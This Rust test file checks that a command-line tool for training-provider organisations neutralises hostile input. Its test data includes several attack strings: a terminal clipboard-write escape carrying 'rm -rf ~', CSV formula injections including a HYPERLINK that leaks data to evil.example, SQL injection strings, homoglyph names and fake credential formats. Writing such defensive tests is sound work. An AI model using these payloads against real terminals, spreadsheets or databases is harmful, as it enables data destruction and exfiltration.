//! What comes from elsewhere does nothing here: names that act on terminals, formulas, SQL, credentials among settings, files
//! that lie about.

use std::os::unix::fs::PermissionsExt as _;

use rexpect::session::spawn_command;
use rusqlite::params;

use crate::seed::Ran;
use crate::support::{Ended, World, world};

/// Names that a provider may send: clipboard writes, cleared screens, titles without an end, text turned round.
fn hostile() -> Vec<String> {
    vec![
        "\x1b]52;c;cm0gLXJmIH4=\x07".into(),
        "\u{9b}2J\u{9b}H".into(),
        "\x1b]0;unterminated".into(),
        "\x1b[2J\x1b[1;1H\x1b[8mgone\x1bc".into(),
        "user\u{202e}gpj.exe\u{2066}".into(),
        "ok\r\nerror: forged\x08\x08\tline\u{2028}next".into(),
        "a\u{200b}d\u{feff}min\u{e0041}".into(),
        format!("a{}b", "\u{301}".repeat(10_000)),
        "\u{90}q\u{9c}\u{9d}52;c;eA==\u{9c}\x7f".into(),
    ]
}

/// Fails if a text acts on a terminal; `lines` says which of the characters that move it on are our own.
fn is_tame(what: &str, text: &str) {
    let acts = |c: char| {
        (c.is_control() && !matches!(c, '\n' | '\t'))
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
    };
    assert!(!text.chars().any(acts), "{what}: {text:?}");
    assert!(what.contains("json") || !text.contains(&"\u{301}".repeat(5)), "{what}: a tower of marks");
    assert!(!text.lines().any(|line| line.starts_with("error: forged")), "{what}: {text:?}");
}

/// Returns a machine with all of these names wherever a provider or a document can put one.
fn infested() -> World {
    let world = world();
    world.seed_organization("acme", "aptem_hubspot");
    for (place, name) in hostile().into_iter().enumerate() {
        world.learner("acme", "aptem", &format!("L{place}"), &name, None);
        world.learner("acme", "aptem", &format!("{name}{place}"), "Brown", None);
        let run = world.ran(
            "acme",
            "aptem",
            &Ran {
                outcome: "failed",
                error: Some(("provider_rejected", "placeholder", "placeholder")),
                ..Ran::default()
            },
        );
        let warnings = serde_json::to_string(&[&name]).unwrap();
        let sql = "UPDATE integration_sync_logs SET error = ?1, hint = ?1, warnings = ?2 WHERE id = ?3";
        world.sql().execute(sql, params![name, warnings, run]).unwrap();
        world.set_aside("acme", "aptem", run, &name, &serde_json::to_string(&name).unwrap());
        let reasons = "UPDATE quarantine SET reasons = json_array(?1) WHERE run_id = ?2";
        world.sql().execute(reasons, params![name, run]).unwrap();
    }
    // Documents of before, or by another hand.
    let sql = world.sql();
    let joined = hostile().concat();
    sql.execute("UPDATE organizations SET name = ?1, billing_name = ?1", [&joined]).unwrap();
    sql.execute("UPDATE integration_presets SET name = ?1 || slug", [&joined]).unwrap();
    world
}

const LISTS: [&str; 9] = [
    "record list acme learners --limit 100",
    "record quarantine list acme",
    "log list",
    "org list",
    "preset list",
    "status",
    "config show acme --origin",
    "credential list acme",
    "provider list",
];

#[test]
fn what_providers_send_and_files_say_is_shown_and_not_obeyed() {
    let world = infested();
    let mut lines: Vec<String> = LISTS.iter().map(ToString::to_string).collect();
    lines.extend(["status acme", "org show acme", "preset show aptem_hubspot"].map(str::to_owned));
    for place in 1..=hostile().len() {
        lines.push(format!("log show {place}"));
        lines.push(format!("record quarantine show acme {place}"));
        lines.push(format!("record show acme learner L{}", place - 1));
    }
    for line in &lines {
        let ended = world.run(line);
        assert!(ended.exit == 0, "{line}: {ended}");
        is_tame(line, &ended.stdout);
        is_tame(line, &ended.stderr);
    }
    for line in LISTS {
        is_tame(line, &world.run(&format!("{line} -o name")).stdout);
    }
    // For programs nothing is taken away.
    let list = world.json("record list acme learners --limit 100");
    let names: Vec<&str> =
        list["items"].as_array().unwrap().iter().filter_map(|row| row["last_name"].as_str()).collect();
    for name in hostile() {
        assert!(names.contains(&name.as_str()), "{name:?}");
    }
}

#[test]
fn errors_repeat_what_was_typed_harmlessly() {
    let world = world();
    for name in hostile().iter().filter(|name| name.len() < 1000) {
        let quoted = shlex::try_quote(name).unwrap().into_owned();
        for line in [
            format!("org show {quoted}"),
            format!("org create --name {quoted} --subdomain x --preset aptem"),
            format!("org create --name X --subdomain {quoted} --preset aptem"),
            format!("org create --name X --subdomain x --preset {quoted}"),
            format!("log show {quoted}"),
            format!("--output {quoted} org list"),
            format!("{quoted} list"),
            format!("org list --fields {quoted}"),
            format!("preset apply -f {quoted}"),
            format!("--db {quoted} org list"),
        ] {
            let ended = world.run(&line);
            assert_ne!(ended.exit, 1, "{line:?}: {ended}");
            is_tame(&line, &ended.stderr);
            is_tame(&line, &ended.stdout);
        }
    }
}

#[test]
fn on_a_terminal_every_form_is_tame_and_still_what_it_was() {
    let mut world = infested();
    world.set("TERM", "xterm");
    world.set("NO_COLOR", "1");
    for form in ["table", "json", "jsonl", "yaml", "csv", "name"] {
        for line in ["record list acme learners --limit 100", "log list", "org list", "log show 1"] {
            let mut command = world.command(&format!("{line} -o {form}"));
            let mut session = spawn_command(
                {
                    command.stderr(std::process::Stdio::null());
                    command
                },
                Some(20_000),
            )
            .unwrap();
            // It is given byte by byte.
            let bytes: Vec<u8> = session.exp_eof().unwrap().chars().map(|byte| u8::try_from(byte).unwrap()).collect();
            let seen = String::from_utf8(bytes).unwrap();
            // The terminal itself ends each line so.
            is_tame(&format!("{line} -o {form}"), &seen.replace("\r\n", "\n"));
            assert!(!seen.is_empty());
        }
    }
}

#[test]
fn a_table_for_a_spreadsheet_holds_no_formula() {
    let world = world();
    world.seed_organization("acme", "aptem");
    let formulas = [
        "=cmd|' /C calc'!A0",
        "+44 1632 960000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\"=1+1\"",
        "\u{ff1d}1+1",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"a, b\")",
    ];
    for (place, formula) in formulas.iter().chain(&["-5", "plain, \"quoted\"\nin two lines"]).enumerate() {
        world.learner("acme", "aptem", &format!("L{place:02}"), formula, None);
    }
    let read = |ended: &Ended| -> Vec<String> {
        let mut reader = csv::Reader::from_reader(ended.stdout.as_bytes());
        reader.records().map(|row| row.unwrap()[0].to_owned()).collect()
    };
    let line = "record list acme learners -o csv --fields last_name,progress";
    let guarded = world.run(line).succeeds();
    let cells = read(&guarded);
    for (cell, formula) in cells.iter().zip(formulas) {
        // A return moves back to the front of its line, so it is written out.
        assert_eq!(*cell, format!("'{}", formula.replace('\r', "\\u{d}")));
    }
    assert_eq!(cells[10..], ["-5", "plain, \"quoted\"\nin two lines"]);
    assert!(guarded.stdout.lines().nth(1).unwrap().ends_with(",12.5"), "a number stays one");
    let raw = read(&world.run(&format!("{line} --csv-raw")).succeeds());
    assert_eq!(raw[..formulas.len()], formulas);
    world.run("record list acme learners --csv-raw").fails(2).says(&["`--csv-raw` is for CSV alone", "-o csv"]);
}

#[test]
fn names_are_no_statements() {
    let world = world();
    let names = [
        "'; DROP TABLE organizations;--",
        "Robert'); DELETE FROM learners; --",
        "\u{1f680} \u{20bb7}\u{91ce}\u{5bb6} 100%_\\",
        "a\"b`c[d]e?1:x",
    ];
    for (place, name) in names.iter().enumerate() {
        let quoted = shlex::try_quote(name).unwrap().into_owned();
        world.run(&format!("org create --name {quoted} --subdomain org-{place} --preset aptem")).succeeds();
        assert_eq!(world.json(&format!("org show org-{place}"))["name"], **name);
        world.run(&format!("org show {quoted}")).fails(5);
        world.run(&format!("record show org-{place} learner {quoted}")).fails(5);
        let set = format!("powerbi_filters.learner.programme={}", serde_json::to_string(name).unwrap());
        world.run(&format!("override set org-{place} aptem {}", shlex::try_quote(&set).unwrap())).succeeds();
        let long = name.repeat(300 / name.chars().count() + 1);
        let long = shlex::try_quote(&long).unwrap().into_owned();
        world.refused(&format!("org create --name {long} --subdomain long --preset aptem"), 2).says(&["at most 100"]);
    }
    world.run("db check --deep").succeeds();
    assert_eq!(world.json("org list")["items"].as_array().unwrap().len(), names.len());
}

#[test]
fn slugs_are_plain_and_names_are_not_to_be_mistaken() {
    let world = world();
    world.run("org create --name 'Acme Training Ltd' --subdomain acme --preset aptem").succeeds();
    world.refused("org create --name X --subdomain \u{430}cme --preset aptem", 2).says(&["is not a slug"]);
    for same in ["Acme Training Ltd", "ACME training  LTD", "\u{410}cme Training Ltd", "Acrne Training Ltd"] {
        let line = format!("org create --name '{same}' --subdomain other --preset aptem");
        let ended = world.refused(&format!("{line} --json"), 6);
        assert_eq!(ended.error()["code"], "name_confusable");
        assert!(ended.error()["message"].as_str().unwrap().contains("the name of `acme`"), "{ended}");
    }
    world.run("org create --name 'Beacon Skills' --subdomain beacon --preset aptem").succeeds();
    world.refused("org edit beacon --name '\u{410}cme Training Ltd'", 6).says(&["looks like", "`acme`"]);
    world.run("org edit acme --name 'Acme Training Limited'").succeeds();
    world.run("org edit acme --max-learners 10").succeeds();
    // A deleted one can come back.
    world.run("org delete acme --yes").succeeds();
    world.refused("org create --name 'Acme Training Limited' --subdomain third --preset aptem", 6).says(&["`acme`"]);
    for hidden in ["Be\u{200b}acon", "Be\u{202e}acon", "Be\u{200d}acon", "Beacon\u{e0041}"] {
        world
            .refused(&format!("org create --name '{hidden}' --subdomain third --preset aptem"), 2)
            .says(&["cannot be seen"]);
    }
    world.run("org create --name 'Cafe\u{301} Skills' --subdomain cafe --preset aptem").succeeds();
    assert_eq!(world.json("org show cafe")["name"], "Caf\u{e9} Skills");
    // Presets and providers too.
    let preset = world.changed_preset("aptem", "preset: aptem", "preset: aptem2");
    world.file("p.yaml", &preset);
    world.refused("preset apply -f p.yaml", 6).says(&["looks like", "the name of `aptem`"]);
    let manifest = include_str!("../../examples/providers/larkfield.yaml");
    let title = manifest.lines().find_map(|line| line.strip_prefix("title: ")).unwrap();
    world.file("l.yaml", &manifest.replacen(&format!("title: {title}"), "title: \u{410}ptem", 1));
    world.refused("provider add -f l.yaml", 6).says(&["looks like `Aptem`"]);
}

#[test]
fn credentials_are_no_settings() {
    let world = world();
    world.create("acme", "aptem_hubspot");
    // Put together here, so that no scanner takes them for lost ones.
    let key = "aB3dE5fG7hJ9kL1mN2pQ4rS6";
    let stripe = format!("sk_{}_{key}", "live");
    let hubspot = format!("pat-{}1-0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9", "eu");
    let token = format!("{}hbGciOiJIUzI1NiJ9.{}zdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl", "eyJ", "eyJ");
    let pem = format!("-----BEGIN {} KEY-----\\nMIIEpAIBAAKCAQEA7bq1AAAA\\n-----END", "PRIVATE");
    for secret in [&stripe, &hubspot, &token, &pem] {
        let refused = |ended: Ended| {
            ended.says(&["looks like", "credential set"]).stderr.contains(&secret[8..20]).then(|| panic!("repeated"));
        };
        refused(world.refused(&format!("override set acme aptem 'field_mappings.learner.division={secret}'"), 7));
        refused(world.refused(&format!("override set acme aptem 'powerbi_filters.learner.status=\"{secret}\"'"), 7));
        world.file("o.yaml", &format!("aptem:\n  powerbi_filters:\n    learner.status: \"{secret}\"\n"));
        refused(world.refused("override apply acme -f o.yaml", 7).says(&["o.yaml:3:"]));
        let preset = world.changed_preset("aptem", "name: Aptem", &format!("name: \"{secret}\""));
        world.file("p.yaml", &preset);
        refused(world.refused("preset apply -f p.yaml", 7));
        refused(world.run("preset validate -f p.yaml").fails(7));
        let manifest = include_str!("../../examples/providers/larkfield.yaml");
        let manifest = manifest.replacen("{settings.centre}", secret, 1);
        world.file("l.yaml", &manifest);
        refused(world.refused("provider add -f l.yaml", 7));
        if !secret.contains("\\n") {
            world
                .refused(&format!("org create --name '{secret}' --subdomain x --preset aptem"), 2)
                .says(&["looks like"]);
            world.refused(&format!("org edit acme --billing-name '{secret}'"), 2).says(&["looks like"]);
        }
    }
    for file in ["skills.db", "skills.db-wal"] {
        let bytes = std::fs::read(world.home().join(file)).unwrap_or_default();
        assert!(!bytes.windows(key.len()).any(|window| window == key.as_bytes()), "{file}");
    }
}

#[test]
fn nothing_that_lies_about_in_the_folder_changes_anything() {
    let world = world();
    world.create("acme", "aptem_hubspot");
    let lines = [
        "org list",
        "preset list",
        "provider list",
        "status",
        "config show acme --origin",
        "schema preset",
        "db status",
        "help",
        "preset export aptem",
    ];
    let all = || -> Vec<String> { lines.map(|line| format!("{}", world.run(line).succeeds())).into() };
    let before = all();
    let evil = "SKILLSCTL_DB=/nowhere/evil.db\nSKILLSCTL_KEY=evil\nSKILLSCTL_OUTPUT=json\nEDITOR=evil\n";
    for name in [".env", ".envrc", ".skillsctlrc", ".skillsctl", "skillsctl.env"] {
        world.file(name, evil);
    }
    for name in [
        "skillsctl.yaml",
        "skillsctl.yml",
        "skillsctl.toml",
        ".skillsctl.yaml",
        "config.yaml",
        "skillsctl.json",
        "clippy.toml",
    ] {
        world.file(name, "db: /nowhere/evil.db\nkey_file: /nowhere\noutput: json\n");
    }
    for folder in ["presets/providers", ".config/skillsctl", "migrations", "providers"] {
        std::fs::create_dir_all(world.home().join(folder)).unwrap();
    }
    for name in [
        "presets/aptem.yaml",
        "presets/providers/aptem.yaml",
        "providers/aptem.yaml",
        ".config/skillsctl/config.yaml",
        "migrations/V99__evil.sql",
        "aptem.yaml",
    ] {
        world.file(name, "provider: aptem\ntitle: Evil\n");
    }
    world.file("skillsctl.db", "not a database");
    world.file("vi", "#!/bin/sh\ntouch evil\n");
    std::fs::set_permissions(world.home().join("vi"), std::fs::Permissions::from_mode(0o755)).unwrap();
    for (line, (now, before)) in lines.iter().zip(all().iter().zip(&before)) {
        assert_eq!(now, before, "{line}");
    }
    world.create("beacon", "aptem");
    assert!(!world.home().join("evil").exists());
}
